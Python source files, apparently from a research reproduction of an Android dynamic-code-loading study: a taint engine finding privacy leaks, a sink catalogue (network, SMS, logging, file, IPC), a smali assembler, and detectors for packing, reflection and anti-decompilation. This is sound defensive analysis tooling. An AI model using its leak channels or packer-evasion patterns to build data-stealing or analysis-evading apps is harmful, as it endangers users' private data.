        bucket = self.field_taint.setdefault((ref.class_name, ref.name), set())
        if taint.issubset(bucket):
            return False
        bucket.update(taint)
        return True

    # -- invoke handling -------------------------------------------------------------

    def _transfer_invoke(
        self,
        ref: MethodRef,
        arg_regs: Tuple[int, ...],
        taints: Dict[int, Set[Taint]],
        strings: Dict[int, Optional[str]],
        summary: MethodSummary,
        method: DexMethod,
        merge,
        get,
    ) -> Tuple[Set[Taint], Optional[str]]:
        arg_taints = [get(register) for register in arg_regs]
        result: Set[Taint] = set()
        result_string: Optional[str] = None

        # 1. sinks: any tainted value reaching a data argument.
        sink = is_sink(ref.class_name, ref.name)
        if sink is not None:
            for position, taint in enumerate(arg_taints):
                if not sink.leaks_at(position):
                    continue
                for element in taint:
                    self._record_hit(element, ref, sink, summary, method)

        # 2. sources: the return value is born tainted.
        source = api_source_for(ref.class_name, ref.name)
        if source is not None:
            result.add(source)

        # 3. content-provider queries: resolve the URI argument.
        if (ref.class_name, ref.name) == ("android.content.ContentResolver", "query"):
            uri = strings.get(arg_regs[1]) if len(arg_regs) > 1 else None
            uri_source = uri_source_for(uri)
            if uri_source is not None:
                result.add(uri_source)

        # 4. app-internal calls: apply the callee summary.
        callee_key = (ref.class_name, ref.name, ref.arity)
        callee = self.summaries.get(callee_key)
        if callee is not None:
            for element in callee.return_taint:
                if isinstance(element, ParamTaint):
                    if element.index < len(arg_taints):
                        result.update(arg_taints[element.index])
                else:
                    result.add(element)
            for element, sink_class, sink_method, channel in callee.sink_hits:
                if isinstance(element, ParamTaint) and element.index < len(arg_taints):
                    for actual in arg_taints[element.index]:
                        self._record_hit_raw(
                            actual, sink_class, sink_method, channel, summary, method
                        )

        # 5. framework pass-through: API results inherit argument taint
        #    (String.concat, StringBuilder.append, Cursor.getString...).
        if callee is None and source is None:
            for taint in arg_taints:
                result.update(taint)
            for from_pos, to_pos in ARG_TO_ARG_PROPAGATION.get(
                (ref.class_name, ref.name), ()
            ):
                if from_pos < len(arg_taints) and to_pos < len(arg_regs):
                    merge(arg_regs[to_pos], arg_taints[from_pos])

        return result, result_string

    def _record_hit(
        self,
        element: Taint,
        ref: MethodRef,
        sink: SinkSpec,
        summary: MethodSummary,
        method: DexMethod,
    ) -> None:
        self._record_hit_raw(
            element, ref.class_name, ref.name, sink.channel, summary, method
        )

    def _record_hit_raw(
        self,
        element: Taint,
        sink_class: str,
        sink_method: str,
        channel: str,
        summary: MethodSummary,
        method: DexMethod,
    ) -> None:
        summary.sink_hits.add((element, sink_class, sink_method, channel))
        if isinstance(element, PrivacySource):
            self.leaks.add(
                PrivacyLeak(
                    data_type=element.data_type,
                    category=element.category,
                    sink_class=sink_class,
                    sink_method=sink_method,
                    channel=channel,
                    in_method="{}.{}".format(method.class_name, method.name),
                )
            )

    def _resolve_symbolic_leaks(self) -> None:
        """Nothing extra: symbolic hits resolve at call sites during rounds."""


def analyze_dex(dex: DexFile, tracer=None) -> List[PrivacyLeak]:
    """Convenience wrapper: all privacy leaks in one loaded DEX."""
    if tracer is None:
        from repro.observe.tracer import NULL_TRACER

        tracer = NULL_TRACER
    with tracer.span(
        "flowdroid.analyze", n_methods=sum(1 for _ in dex.iter_methods())
    ) as span:
        leaks = FlowDroid(dex).run()
        span.set(n_leaks=len(leaks))
        return leaks
