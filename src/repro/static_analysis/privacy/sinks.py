"""Privacy sinks, following the SuSi catalogue's categories.

SuSi (Rasthofer et al., NDSS 2014) machine-learned a comprehensive list of
Android sinks; the paper uses that list.  We carry its high-value classes:
network output, SMS, logging, file output, and inter-process broadcast.
A call is a sink when a *tainted value* reaches one of its data-carrying
argument positions.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Dict, FrozenSet, Optional, Tuple


@dataclass(frozen=True)
class SinkSpec:
    """One sink method: its channel and which arg positions carry data.

    ``data_args`` uses *logical* positions: for instance methods position 0
    is the receiver, 1 the first Java argument, matching how our INVOKE
    passes registers.  ``None`` means any argument leaks.
    """

    channel: str
    data_args: Optional[FrozenSet[int]] = None

    def leaks_at(self, position: int) -> bool:
        return self.data_args is None or position in self.data_args


SINKS: Dict[Tuple[str, str], SinkSpec] = {
    # network
    ("java.io.OutputStream", "write"): SinkSpec("network-or-file", frozenset({1})),
    ("java.io.Writer", "write"): SinkSpec("network-or-file", frozenset({1})),
    ("java.net.URLConnection", "setRequestProperty"): SinkSpec("network", frozenset({1, 2})),
    ("org.apache.http.client.HttpClient", "execute"): SinkSpec("network", None),
    ("java.net.URL", "<init>"): SinkSpec("network", frozenset({1})),
    # SMS
    ("android.telephony.SmsManager", "sendTextMessage"): SinkSpec("sms", frozenset({1, 3})),
    ("android.telephony.SmsManager", "sendDataMessage"): SinkSpec("sms", None),
    # logging
    ("android.util.Log", "d"): SinkSpec("log", frozenset({0, 1})),
    ("android.util.Log", "e"): SinkSpec("log", frozenset({0, 1})),
    ("android.util.Log", "i"): SinkSpec("log", frozenset({0, 1})),
    ("android.util.Log", "v"): SinkSpec("log", frozenset({0, 1})),
    ("android.util.Log", "w"): SinkSpec("log", frozenset({0, 1})),
    # file
    ("java.io.FileOutputStream", "<init>"): SinkSpec("file", frozenset({1})),
    ("java.io.FileWriter", "<init>"): SinkSpec("file", frozenset({1})),
    # IPC
    ("android.content.Context", "sendBroadcast"): SinkSpec("ipc", None),
    ("android.content.Intent", "putExtra"): SinkSpec("ipc", frozenset({2})),
}


def is_sink(class_name: str, method_name: str) -> Optional[SinkSpec]:
    """The sink spec for a call target, if any."""
    return SINKS.get((class_name, method_name))
