"""Privacy-tracking analysis of intercepted DEX code (FlowDroid-style).

The paper runs a modified FlowDroid over the dynamically loaded bytecode:
because loaded code has no manifest or layout resources, *every* public
method is a potential entry point.  Sources are the 18 privacy data types of
Table X (5 categories: location, phone identity, user identity, usage
pattern, content providers); sinks follow the SuSi catalogue (network,
SMS, log, file, IPC).

- :mod:`repro.static_analysis.privacy.sources` -- the source catalogue;
- :mod:`repro.static_analysis.privacy.sinks` -- the sink catalogue;
- :mod:`repro.static_analysis.privacy.flowdroid` -- the inter-procedural
  taint engine and its :class:`PrivacyLeak` findings.
"""

from repro.static_analysis.privacy.flowdroid import (
    FlowDroid,
    PrivacyLeak,
    analyze_dex,
)
from repro.static_analysis.privacy.sinks import SINKS, is_sink
from repro.static_analysis.privacy.sources import (
    DATA_TYPES,
    PRIVACY_CATEGORIES,
    PrivacySource,
    api_source_for,
    uri_source_for,
)

__all__ = [
    "DATA_TYPES",
    "FlowDroid",
    "PRIVACY_CATEGORIES",
    "PrivacyLeak",
    "PrivacySource",
    "SINKS",
    "analyze_dex",
    "api_source_for",
    "is_sink",
    "uri_source_for",
]
