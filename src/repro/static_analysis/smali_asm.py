"""smali assembler / disassembler: exact textual round-trip for mini-DEX.

The IR renderer in :mod:`repro.static_analysis.smali` is human-oriented and
lossy; this module is the tool pair (smali/baksmali): ``disassemble`` emits
an unambiguous line grammar, ``assemble`` parses it back so that::

    assemble(disassemble(dex)).to_bytes() == dex.to_bytes()

String literals are JSON-quoted, null is ``null``, registers are ``vN``,
types use the ``Lcom/foo/Bar;`` descriptor syntax, and member references
use the ``L...;->name`` arrow form real smali uses.
"""

from __future__ import annotations

import json
import re
from typing import List, Optional, Union

from repro.android.bytecode import Cmp, FieldRef, Instruction, MethodRef, Op
from repro.android.dex import DexClass, DexField, DexFile, DexMethod


class SmaliSyntaxError(ValueError):
    """The assembler hit a line it cannot parse."""

    def __init__(self, line_number: int, line: str, reason: str) -> None:
        super().__init__("line {}: {} ({!r})".format(line_number, reason, line))
        self.line_number = line_number


def _type_to_descriptor(name: str) -> str:
    return "L{};".format(name.replace(".", "/"))


def _descriptor_to_type(descriptor: str) -> str:
    if not (descriptor.startswith("L") and descriptor.endswith(";")):
        raise ValueError("bad type descriptor {!r}".format(descriptor))
    return descriptor[1:-1].replace("/", ".")


def _literal_to_text(value: Union[int, str, None]) -> str:
    if value is None:
        return "null"
    if isinstance(value, str):
        return json.dumps(value)
    return str(value)


def _text_to_literal(text: str) -> Union[int, str, None]:
    text = text.strip()
    if text == "null":
        return None
    if text.startswith('"'):
        return json.loads(text)
    return int(text)


def _method_ref_to_text(ref: MethodRef) -> str:
    return "{}->{}/{}".format(_type_to_descriptor(ref.class_name), ref.name, ref.arity)


_METHOD_REF_RE = re.compile(r"^(L[^;]+;)->([^/]+)/(\d+)$")


def _text_to_method_ref(text: str) -> MethodRef:
    match = _METHOD_REF_RE.match(text.strip())
    if match is None:
        raise ValueError("bad method reference {!r}".format(text))
    return MethodRef(_descriptor_to_type(match.group(1)), match.group(2), int(match.group(3)))


def _field_ref_to_text(ref: FieldRef) -> str:
    return "{}->{}".format(_type_to_descriptor(ref.class_name), ref.name)


_FIELD_REF_RE = re.compile(r"^(L[^;]+;)->(\S+)$")


def _text_to_field_ref(text: str) -> FieldRef:
    match = _FIELD_REF_RE.match(text.strip())
    if match is None:
        raise ValueError("bad field reference {!r}".format(text))
    return FieldRef(_descriptor_to_type(match.group(1)), match.group(2))


# ---------------------------------------------------------------------------
# disassembly


def disassemble_instruction(insn: Instruction) -> str:
    op = insn.op
    args = insn.args
    if op is Op.LABEL:
        return ":{}".format(args[0])
    if op is Op.NOP:
        return "nop"
    if op is Op.CONST:
        return "const v{}, {}".format(args[0], _literal_to_text(args[1]))
    if op is Op.MOVE:
        return "move v{}, v{}".format(args[0], args[1])
    if op is Op.NEW_INSTANCE:
        return "new-instance v{}, {}".format(args[0], _type_to_descriptor(args[1]))
    if op is Op.NEW_ARRAY:
        return "new-array v{}, v{}".format(args[0], args[1])
    if op is Op.INVOKE:
        ref, regs = args
        return "invoke {} {{{}}}".format(
            _method_ref_to_text(ref), ", ".join("v{}".format(r) for r in regs)
        )
    if op is Op.MOVE_RESULT:
        return "move-result v{}".format(args[0])
    if op is Op.IGET:
        return "iget v{}, v{}, {}".format(args[0], args[1], _field_ref_to_text(args[2]))
    if op is Op.IPUT:
        return "iput v{}, v{}, {}".format(args[0], args[1], _field_ref_to_text(args[2]))
    if op is Op.SGET:
        return "sget v{}, {}".format(args[0], _field_ref_to_text(args[1]))
    if op is Op.SPUT:
        return "sput v{}, {}".format(args[0], _field_ref_to_text(args[1]))
    if op is Op.AGET:
        return "aget v{}, v{}, v{}".format(args[0], args[1], args[2])
    if op is Op.APUT:
        return "aput v{}, v{}, v{}".format(args[0], args[1], args[2])
    if op is Op.IF:
        cmp, a, b, target = args
        if b is None:
            return "if-{} v{}, :{}".format(cmp.value, a, target)
        return "if-{} v{}, v{}, :{}".format(cmp.value, a, b, target)
    if op is Op.GOTO:
        return "goto :{}".format(args[0])
    if op is Op.RETURN:
        return "return v{}".format(args[0])
    if op is Op.RETURN_VOID:
        return "return-void"
    if op is Op.THROW:
        return "throw v{}".format(args[0])
    if op is Op.BINOP:
        name, dst, a, b = args
        return "binop {} v{}, v{}, v{}".format(name, dst, a, b)
    if op is Op.TRY_START:
        return "try-start :{}, {}".format(args[0], _type_to_descriptor(args[1]))
    if op is Op.TRY_END:
        return "try-end"
    if op is Op.MOVE_EXCEPTION:
        return "move-exception v{}".format(args[0])
    raise ValueError("cannot disassemble {}".format(op))


def disassemble(dex: DexFile) -> str:
    """The full textual form of a DEX file."""
    lines: List[str] = ["# source: {}".format(dex.source_name)]
    for cls in dex.classes:
        lines.append("")
        lines.append(".class public {}".format(_type_to_descriptor(cls.name)))
        lines.append(".super {}".format(_type_to_descriptor(cls.superclass)))
        for fld in cls.fields:
            static = " static" if fld.is_static else ""
            lines.append(
                ".field{} {} {}".format(static, fld.name, _type_to_descriptor(fld.type_name))
            )
        for method in cls.methods:
            flags = "public" if method.is_public else "private"
            if method.is_static:
                flags += " static"
            lines.append(
                ".method {} {} arity={} registers={}".format(
                    flags, method.name, method.arity, method.registers
                )
            )
            for insn in method.instructions:
                lines.append("    " + disassemble_instruction(insn))
            lines.append(".end method")
    return "\n".join(lines) + "\n"


# ---------------------------------------------------------------------------
# assembly

_REG_RE = re.compile(r"^v(\d+)$")


def _reg(token: str) -> int:
    match = _REG_RE.match(token.strip())
    if match is None:
        raise ValueError("bad register {!r}".format(token))
    return int(match.group(1))


def _split_args(text: str) -> List[str]:
    """Split on commas not inside a JSON string literal."""
    parts: List[str] = []
    depth_quote = False
    escaped = False
    current = ""
    for char in text:
        if depth_quote:
            current += char
            if escaped:
                escaped = False
            elif char == "\\":
                escaped = True
            elif char == '"':
                depth_quote = False
            continue
        if char == '"':
            depth_quote = True
            current += char
        elif char == ",":
            parts.append(current.strip())
            current = ""
        else:
            current += char
    if current.strip():
        parts.append(current.strip())
    return parts


def assemble_instruction(line: str) -> Instruction:
    """Parse one instruction line (without leading whitespace)."""
    if line.startswith(":"):
        return Instruction(Op.LABEL, (line[1:],))
    mnemonic, _, rest = line.partition(" ")
    rest = rest.strip()

    if mnemonic == "nop":
        return Instruction(Op.NOP)
    if mnemonic == "const":
        dst, literal = _split_args(rest)
        return Instruction(Op.CONST, (_reg(dst), _text_to_literal(literal)))
    if mnemonic == "move":
        dst, src = _split_args(rest)
        return Instruction(Op.MOVE, (_reg(dst), _reg(src)))
    if mnemonic == "new-instance":
        dst, descriptor = _split_args(rest)
        return Instruction(Op.NEW_INSTANCE, (_reg(dst), _descriptor_to_type(descriptor)))
    if mnemonic == "new-array":
        dst, size = _split_args(rest)
        return Instruction(Op.NEW_ARRAY, (_reg(dst), _reg(size)))
    if mnemonic == "invoke":
        ref_text, _, regs_text = rest.partition("{")
        regs_text = regs_text.rstrip("}").strip()
        regs = tuple(_reg(t) for t in regs_text.split(",")) if regs_text else ()
        return Instruction(Op.INVOKE, (_text_to_method_ref(ref_text), regs))
    if mnemonic == "move-result":
        return Instruction(Op.MOVE_RESULT, (_reg(rest),))
    if mnemonic in ("iget", "iput"):
        a, b, ref = _split_args(rest)
        op = Op.IGET if mnemonic == "iget" else Op.IPUT
        return Instruction(op, (_reg(a), _reg(b), _text_to_field_ref(ref)))
    if mnemonic in ("sget", "sput"):
        a, ref = _split_args(rest)
        op = Op.SGET if mnemonic == "sget" else Op.SPUT
        return Instruction(op, (_reg(a), _text_to_field_ref(ref)))
    if mnemonic in ("aget", "aput"):
        a, b, c = _split_args(rest)
        op = Op.AGET if mnemonic == "aget" else Op.APUT
        return Instruction(op, (_reg(a), _reg(b), _reg(c)))
    if mnemonic.startswith("if-"):
        cmp = Cmp(mnemonic[len("if-"):])
        parts = _split_args(rest)
        target = parts[-1].lstrip(":")
        if len(parts) == 2:
            return Instruction(Op.IF, (cmp, _reg(parts[0]), None, target))
        return Instruction(Op.IF, (cmp, _reg(parts[0]), _reg(parts[1]), target))
    if mnemonic == "goto":
        return Instruction(Op.GOTO, (rest.lstrip(":"),))
    if mnemonic == "return":
        return Instruction(Op.RETURN, (_reg(rest),))
    if mnemonic == "return-void":
        return Instruction(Op.RETURN_VOID)
    if mnemonic == "throw":
        return Instruction(Op.THROW, (_reg(rest),))
    if mnemonic == "binop":
        name, _, regs = rest.partition(" ")
        dst, a, b = _split_args(regs)
        return Instruction(Op.BINOP, (name, _reg(dst), _reg(a), _reg(b)))
    if mnemonic == "try-start":
        label_text, descriptor = _split_args(rest)
        return Instruction(
            Op.TRY_START, (label_text.lstrip(":"), _descriptor_to_type(descriptor))
        )
    if mnemonic == "try-end":
        return Instruction(Op.TRY_END)
    if mnemonic == "move-exception":
        return Instruction(Op.MOVE_EXCEPTION, (_reg(rest),))
    raise ValueError("unknown mnemonic {!r}".format(mnemonic))


_METHOD_HEADER_RE = re.compile(
    r"^\.method\s+(public|private)(\s+static)?\s+(\S+)\s+arity=(\d+)\s+registers=(\d+)$"
)
_FIELD_RE = re.compile(r"^\.field(\s+static)?\s+(\S+)\s+(L[^;]+;)$")


def assemble(text: str) -> DexFile:
    """Parse a disassembly back into a DexFile."""
    dex = DexFile()
    current_class: Optional[DexClass] = None
    current_method: Optional[DexMethod] = None

    for line_number, raw in enumerate(text.splitlines(), start=1):
        line = raw.strip()
        if not line:
            continue
        if line.startswith("# source: "):
            dex.source_name = line[len("# source: "):]
            continue
        if line.startswith("#"):
            continue
        try:
            if line.startswith(".class"):
                descriptor = line.split()[-1]
                current_class = DexClass(name=_descriptor_to_type(descriptor))
                dex.classes.append(current_class)
            elif line.startswith(".super"):
                if current_class is None:
                    raise ValueError(".super outside a class")
                current_class.superclass = _descriptor_to_type(line.split()[-1])
            elif line.startswith(".field"):
                match = _FIELD_RE.match(line)
                if current_class is None or match is None:
                    raise ValueError("bad field declaration")
                current_class.fields.append(
                    DexField(
                        name=match.group(2),
                        type_name=_descriptor_to_type(match.group(3)),
                        is_static=bool(match.group(1)),
                    )
                )
            elif line.startswith(".method"):
                match = _METHOD_HEADER_RE.match(line)
                if current_class is None or match is None:
                    raise ValueError("bad method header")
                current_method = DexMethod(
                    name=match.group(3),
                    class_name=current_class.name,
                    arity=int(match.group(4)),
                    registers=int(match.group(5)),
                    is_public=match.group(1) == "public",
                    is_static=bool(match.group(2)),
                )
                current_class.methods.append(current_method)
            elif line == ".end method":
                current_method = None
            else:
                if current_method is None:
                    raise ValueError("instruction outside a method")
                current_method.instructions.append(assemble_instruction(line))
        except (ValueError, KeyError) as exc:
            raise SmaliSyntaxError(line_number, raw, str(exc))
    return dex
