"""The decompiled intermediate representation (smali-like).

A :class:`SmaliProgram` is what the decompiler hands every downstream static
analysis: the manifest, the disassembled classes, the non-code entries, and
rendering into textual smali for humans.  It deliberately mirrors what
baksmali recovers from a real APK -- in particular, bytecode hidden in
encrypted assets is *not* here, which is exactly the mismatch DyDroid's
packer rule keys on.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Iterator, List, Optional, Set, Tuple

from repro.android.apk import Apk
from repro.android.bytecode import MethodRef, Op
from repro.android.dex import DexClass, DexFile, DexMethod
from repro.android.manifest import AndroidManifest


@dataclass
class SmaliProgram:
    """Decompilation output for one APK."""

    apk: Apk
    manifest: AndroidManifest
    dex_files: List[DexFile]
    #: entry paths that were present but not decompilable as code.
    opaque_entries: List[str] = field(default_factory=list)

    # -- code queries -----------------------------------------------------------

    def classes(self) -> Iterator[DexClass]:
        for dex in self.dex_files:
            yield from dex.classes

    def class_names(self) -> Set[str]:
        return {cls.name for cls in self.classes()}

    def methods(self) -> Iterator[DexMethod]:
        for cls in self.classes():
            yield from cls.methods

    def invoked_refs(self) -> Iterator[MethodRef]:
        for method in self.methods():
            yield from method.invoked_refs()

    def class_named(self, name: str) -> Optional[DexClass]:
        for cls in self.classes():
            if cls.name == name:
                return cls
        return None

    def identifiers(self) -> Iterator[Tuple[str, str]]:
        """(kind, identifier) pairs for the lexical-obfuscation scanner.

        Kinds: ``class`` (simple class name), ``method``, ``field``.
        Compiler-reserved names (``<init>``...) are skipped.
        """
        for cls in self.classes():
            yield "class", cls.simple_name
            for method in cls.methods:
                if not method.name.startswith("<"):
                    yield "method", method.name
            for fld in cls.fields:
                yield "field", fld.name

    def references_package(self, package_prefix: str) -> bool:
        """Whether any invoke targets a class under ``package_prefix``."""
        prefix = package_prefix + "."
        return any(
            ref.class_name.startswith(prefix) or ref.class_name == package_prefix
            for ref in self.invoked_refs()
        )

    # -- rendering ---------------------------------------------------------------

    def render_smali(self, class_name: Optional[str] = None) -> str:
        """Textual smali, for documentation/debugging parity with baksmali."""
        chunks = []
        for cls in self.classes():
            if class_name is not None and cls.name != class_name:
                continue
            chunks.append(_render_class(cls))
        return "\n\n".join(chunks)


def _dot_to_smali(name: str) -> str:
    return "L{};".format(name.replace(".", "/"))


def _render_class(cls: DexClass) -> str:
    lines = [
        ".class public {}".format(_dot_to_smali(cls.name)),
        ".super {}".format(_dot_to_smali(cls.superclass)),
        "",
    ]
    for fld in cls.fields:
        keyword = ".field public static" if fld.is_static else ".field public"
        lines.append("{} {}:{}".format(keyword, fld.name, _dot_to_smali(fld.type_name)))
    if cls.fields:
        lines.append("")
    for method in cls.methods:
        lines.extend(_render_method(method))
        lines.append("")
    return "\n".join(lines).rstrip() + "\n"


def _render_method(method: DexMethod) -> List[str]:
    flags = "public"
    if method.is_static:
        flags += " static"
    lines = [
        ".method {} {}({})V".format(flags, method.name, "I" * method.arity),
        "    .registers {}".format(method.registers),
    ]
    for insn in method.instructions:
        if insn.op is Op.LABEL:
            lines.append("    :{}".format(insn.args[0]))
        else:
            lines.append("    {}".format(insn))
    lines.append(".end method")
    return lines
