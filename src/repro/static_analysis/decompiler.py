"""The unpack/decompile front end (baksmali/apktool stand-in).

``Decompiler.decompile`` unpacks an :class:`Apk` into a
:class:`SmaliProgram`.  Like the real toolchain it:

- parses every ``classes*.dex`` member into IR;
- records non-code entries (assets, encrypted payloads) as *opaque*;
- **crashes** on apps that weaponize decompiler implementation bugs
  (anti-decompilation) -- DyDroid records those as obfuscated and drops
  them from further static processing, exactly as the paper does with the
  54 apps that crashed its decompiler.
"""

from __future__ import annotations

from dataclasses import dataclass

from repro.android.apk import Apk, ApkFormatError
from repro.android.dex import DexFormatError
from repro.android.manifest import ManifestError
from repro.observe.tracer import NULL_TRACER
from repro.static_analysis.smali import SmaliProgram


class DecompilationError(RuntimeError):
    """The decompiler crashed on this APK (anti-decompilation / corruption)."""


@dataclass
class Decompiler:
    """APK -> smali IR.

    ``strict`` mirrors apktool's default behaviour of dying on resource
    parse errors; a non-strict decompiler would skip the hostile entry, and
    we keep the flag so the ablation bench can measure how many apps the
    strict tool loses.
    """

    strict: bool = True

    def decompile(self, apk: Apk, tracer=NULL_TRACER) -> SmaliProgram:
        with tracer.span("decompiler.unpack", strict=self.strict) as span:
            if self.strict and apk.is_anti_decompilation:
                raise DecompilationError(
                    "resource table parse error (anti-decompilation sample)"
                )
            try:
                manifest = apk.manifest
            except (ApkFormatError, ManifestError) as exc:
                raise DecompilationError("cannot parse manifest: {}".format(exc))

            dex_files = []
            for path, data in apk.dex_entries():
                try:
                    from repro.android.dex import DexFile

                    dex_files.append(DexFile.from_bytes(data))
                except DexFormatError as exc:
                    if self.strict:
                        raise DecompilationError("{}: {}".format(path, exc))

            code_entries = {path for path, _ in apk.dex_entries()}
            opaque = [
                path
                for path in sorted(apk.entries)
                if path not in code_entries and path != "AndroidManifest.xml"
            ]
            span.set(n_dex=len(dex_files), n_opaque=len(opaque))
            return SmaliProgram(
                apk=apk, manifest=manifest, dex_files=dex_files, opaque_entries=opaque
            )
