"""Obfuscation analysis (Section III-D, Table VI, Figure 3).

Five techniques are detected, mirroring the paper:

- **DEX encryption (packing)** -- the three-rule detector for apps hardened
  with bytecode encryption + DCL (Bangcle/Ijiami/360/Alibaba pattern);
- **lexical obfuscation** -- identifiers that are not dictionary words
  (ProGuard/Allatori output);
- **reflection** -- ``java.lang.reflect`` usage;
- **native code** -- confirmed against the dynamic analysis when available,
  else by packaged ``.so`` presence;
- **anti-decompilation** -- the decompiler crashed on the app.
"""

from repro.static_analysis.obfuscation.detector import (
    ObfuscationProfile,
    analyze_obfuscation,
    detect_dex_encryption,
    detect_reflection,
)
from repro.static_analysis.obfuscation.lexical import (
    identifier_is_meaningful,
    lexical_obfuscation_ratio,
    is_lexically_obfuscated,
)

__all__ = [
    "ObfuscationProfile",
    "analyze_obfuscation",
    "detect_dex_encryption",
    "detect_reflection",
    "identifier_is_meaningful",
    "is_lexically_obfuscated",
    "lexical_obfuscation_ratio",
]
