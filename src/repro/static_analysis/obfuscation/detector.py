"""Obfuscation detectors: packing rules, reflection, native, profiles.

The DEX-encryption (packing) detector implements the paper's three
conjunctive rules, derived from samples hardened by Bangcle, Ijiami, 360,
and Alibaba:

1. the manifest's ``<application android:name=...>`` names a container
   class that exists in the decompiled code and instantiates a class
   loader;
2. not all components declared in the manifest are found in the decompiled
   code, while a locally packed file in a bytecode-capable format exists
   (the encrypted payload the reverse-engineering tool cannot see);
3. the container loads a packaged native library through the JNI (the
   decryptor lives in native code -- the paper found no Java decryptors).
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Optional

from repro.android.apk import Apk
from repro.static_analysis.obfuscation.lexical import is_lexically_obfuscated
from repro.static_analysis.prefilter import DEX_LOADER_CLASSES, NATIVE_LOAD_METHODS
from repro.static_analysis.smali import SmaliProgram

REFLECTION_PACKAGE = "java.lang.reflect"

#: hardening-vendor container namespaces observed in the wild (the paper
#: studied samples from Bangcle, Ijiami, 360, and Alibaba).
PACKER_VENDOR_NAMESPACES = {
    "com.secneo.": "Bangcle/SecNeo",
    "com.bangcle.": "Bangcle/SecNeo",
    "com.qihoo.": "360 Jiagu",
    "com.ali.mobisecenhance": "Alibaba JAQ",
    "com.ijiami.": "Ijiami",
}


@dataclass(frozen=True)
class ObfuscationProfile:
    """Per-app verdicts for the five Table VI techniques."""

    lexical: bool = False
    reflection: bool = False
    native: bool = False
    dex_encryption: bool = False
    anti_decompilation: bool = False
    #: when dex_encryption: which hardening vendor's container pattern.
    packer_vendor: Optional[str] = None

    def techniques(self) -> list:
        """Names of the techniques in use, Table VI order."""
        rows = [
            ("Lexical", self.lexical),
            ("Reflection", self.reflection),
            ("Native", self.native),
            ("DEX encryption", self.dex_encryption),
            ("Anti-decompilation", self.anti_decompilation),
        ]
        return [name for name, used in rows if used]


def _class_instantiates_loader(program: SmaliProgram, class_name: str) -> bool:
    cls = program.class_named(class_name)
    if cls is None:
        return False
    for method in cls.methods:
        for ref in method.invoked_refs():
            if ref.name == "<init>" and ref.class_name in DEX_LOADER_CLASSES:
                return True
    return False


def _class_uses_jni_load(program: SmaliProgram, class_name: str) -> bool:
    cls = program.class_named(class_name)
    if cls is None:
        return False
    native_keys = set(NATIVE_LOAD_METHODS)
    for method in cls.methods:
        for ref in method.invoked_refs():
            if (ref.class_name, ref.name) in native_keys:
                return True
    return False


def detect_dex_encryption(program: SmaliProgram) -> bool:
    """All three packing rules must hold."""
    container = program.manifest.application_name
    if container is None:
        return False
    # Rule 1: the container exists and instantiates a class loader.
    if not _class_instantiates_loader(program, container):
        return False
    # Rule 2: declared components missing from the decompiled code, with a
    # bytecode-capable file packed locally.
    declared = program.manifest.component_names()
    present = program.class_names()
    if declared and declared.issubset(present):
        return False
    if not program.apk.has_local_bytecode_store():
        return False
    # Rule 3: the container pulls in the native decryptor via JNI.
    if not _class_uses_jni_load(program, container):
        return False
    return True


def identify_packer_vendor(program: SmaliProgram) -> Optional[str]:
    """Attribute a packed app to a hardening vendor by container namespace."""
    container = program.manifest.application_name
    if container is None:
        return None
    for prefix, vendor in PACKER_VENDOR_NAMESPACES.items():
        if container.startswith(prefix):
            return vendor
    return "unknown vendor"


def detect_reflection(program: SmaliProgram) -> bool:
    """Existence of java.lang.reflect API references."""
    prefix = REFLECTION_PACKAGE + "."
    return any(
        ref.class_name.startswith(prefix) or ref.class_name == REFLECTION_PACKAGE
        for ref in program.invoked_refs()
    )


def detect_native(
    program: SmaliProgram, dynamic_native_confirmed: Optional[bool] = None
) -> bool:
    """Native-code usage, preferring the dynamic analysis verdict."""
    if dynamic_native_confirmed is not None:
        return dynamic_native_confirmed
    return bool(program.apk.native_lib_entries())


def analyze_obfuscation(
    apk: Apk,
    program: Optional[SmaliProgram],
    dynamic_native_confirmed: Optional[bool] = None,
) -> ObfuscationProfile:
    """The full per-app profile.

    ``program=None`` means the decompiler crashed: the app is recorded as
    anti-decompilation and nothing else can be assessed statically (the
    paper's 54 such apps are likewise only counted in that row).
    """
    if program is None:
        return ObfuscationProfile(anti_decompilation=True)
    identifiers = (name for _, name in program.identifiers())
    packed = detect_dex_encryption(program)
    return ObfuscationProfile(
        lexical=is_lexically_obfuscated(identifiers),
        reflection=detect_reflection(program),
        native=detect_native(program, dynamic_native_confirmed),
        dex_encryption=packed,
        anti_decompilation=False,
        packer_vendor=identify_packer_vendor(program) if packed else None,
    )
