"""Lexical-obfuscation detection.

The paper parses identifiers out of the IR and checks them against a
language database built from DBpedia; identifiers that correspond to no
actual words mean the app was lexically obfuscated (ProGuard's ``a``/``b``
renaming, Allatori's schemes, ...).  DBpedia is not available offline, so
the dictionary here is an embedded list of English words common in software
identifiers -- the same membership test at smaller scale.

An identifier is *meaningful* when most of its camelCase/underscore tokens
are dictionary words (or well-known short programming prefixes); an app is
*lexically obfuscated* when the share of meaningful identifiers falls below
:data:`MEANINGFUL_APP_THRESHOLD`.
"""

from __future__ import annotations

import re
from typing import Iterable, Tuple

#: minimum share of meaningful identifiers for an app to count as readable.
MEANINGFUL_APP_THRESHOLD = 0.5

#: minimum share of dictionary tokens for one identifier to be meaningful.
MEANINGFUL_TOKEN_SHARE = 0.5

#: short tokens accepted without dictionary lookup (idiomatic prefixes).
SHORT_TOKENS = frozenset(
    "on get set is to id ui db io os up in out new old add del min max run".split()
)

_WORDS = """
about access account action activity adapter address admin agent alarm album alert
algorithm alias align alpha amount analytics anchor android angle animation answer
api app append apply archive area argument array arrow article asset assign async
attach attribute audio author auto avatar back backup badge balance band banner bar
base basic batch battery beacon bean begin bell best beta bind bitmap block blue
bluetooth board body book bookmark boolean boot border bottom bound box brand
bridge bright broadcast browser brush buffer build builder bundle business button
bytes cache calc calculator calendar call callback camera cancel candidate canvas
capacity caption capture card care carousel cart case cast catalog category cell
center certificate chain challenge change channel chapter char chart chat check
checkout child choice chunk circle city class classic clean clear click client
clip clock clone close cloud cluster code codec collection color column combo
command comment commit common compare compass complete component compress compute
config confirm connect connection console constant contact container content
context control convert cookie coordinate copy core corner count counter country
coupon cover craft crash create credit crop cross crypto currency current cursor
curve custom customer cycle daily dark dash data database date day dead debug
decimal decode decorator default delay delegate delete delivery demo density
deposit depth design desktop destination detail detect device dialog dictionary
diff digest digit dimension direction directory disable discount disk dismiss
dispatch display distance document domain done double down download draft drag
draw drawer drive driver drop duration east edge edit editor effect element email
empty enable encode encrypt end engine enter entity entry enum episode equal
error event exact example exception exchange exclude execute exit expand expense
